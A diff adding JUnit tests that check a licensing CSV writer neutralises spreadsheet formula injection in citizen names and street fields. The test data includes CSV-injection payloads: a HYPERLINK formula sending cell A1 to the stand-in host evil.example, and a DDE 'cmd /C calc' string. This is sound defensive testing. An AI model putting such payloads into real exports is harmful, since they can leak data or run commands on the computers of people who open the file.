@@ -4,6 +4,8 @@ import id.jembatan.schema.fixtures.CitizenFixtures;
 import id.jembatan.schema.model.BirthRegistered;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 import java.io.StringReader;
 import java.io.StringWriter;
@@ -37,6 +39,55 @@ class LicensingCsvTest {
         assertThat(translator.translate(birth).orElseThrow().action()).isEqualTo(LicenceUpdate.Action.REGISTER);
         assertThat(translator.translate(fixtures.marriage(nik, fixtures.citizen().nik(), LocalDate.now())))
                 .isEmpty();
+    }
+
+    /**
+     * Names and streets that a spreadsheet would run as formulas (OWASP's CSV injection triggers = + - @, tab, CR).
+     * Result: each cell is written with a single quote before it, so no cell of the file starts with a trigger;
+     * reading the file gives back exactly the values, also a name that really starts with a quote.
+     */
+    @ParameterizedTest
+    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")", "+62 812 Budi", "-1+1 Siti",
+        "@SUM(1+1)*cmd|' /C calc'!A0", "\tBudi Santoso", "\rBudi Santoso", "'=1+1 Dewi", "''@Dewi"})
+    void formulaCellsAreNeutralisedAndReadBackExactly(String hostile) throws Exception {
+        BirthRegistered birth = fixtures.birth();
+        var a = birth.citizen().address();
+        var street = new id.jembatan.schema.model.Address(hostile, a.rt(), a.rw(), a.villageCode(), hostile,
+                a.districtCode(), a.district(), a.regencyCode(), a.regency(), a.provinceCode(), a.province(),
+                a.postalCode());
+        List<LicenceUpdate> rows = List.of(
+                translator.translate(fixtures.nameChange(birth.citizen().nik(), hostile)).orElseThrow(),
+                translator.translate(fixtures.addressChange(birth.citizen().nik(), street)).orElseThrow());
+        StringWriter out = new StringWriter();
+
+        LicensingCsv.write(rows, out);
+
+        try (var parser = org.apache.commons.csv.CSVParser.builder().setReader(new StringReader(out.toString()))
+                .setFormat(org.apache.commons.csv.CSVFormat.RFC4180).get()) {
+            for (var record : parser) {
+                for (String cell : record) {
+                    assertThat(cell).as("cell").doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
+                            .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
+                }
+            }
+        }
+        assertThat(out.toString()).contains("'" + hostile.substring(0, 3));
+        assertThat(LicensingCsv.read(new StringReader(out.toString()))).isEqualTo(rows);
+    }
+
+    /** A name that starts with a quote but no trigger ('Aisyah) and an ordinary name are written as they are. */
+    @Test
+    void ordinaryValuesAreWrittenAsTheyAre() throws Exception {
+        BirthRegistered birth = fixtures.birth();
+        List<LicenceUpdate> rows = List.of(
+                translator.translate(fixtures.nameChange(birth.citizen().nik(), "'Aisyah Putri")).orElseThrow(),
+                translator.translate(fixtures.nameChange(birth.citizen().nik(), "Budi - Santoso")).orElseThrow());
+        StringWriter out = new StringWriter();
+
+        LicensingCsv.write(rows, out);
+
+        assertThat(out.toString()).contains(",'Aisyah Putri,").contains(",Budi - Santoso,");
+        assertThat(LicensingCsv.read(new StringReader(out.toString()))).isEqualTo(rows);
     }
 
     @Test
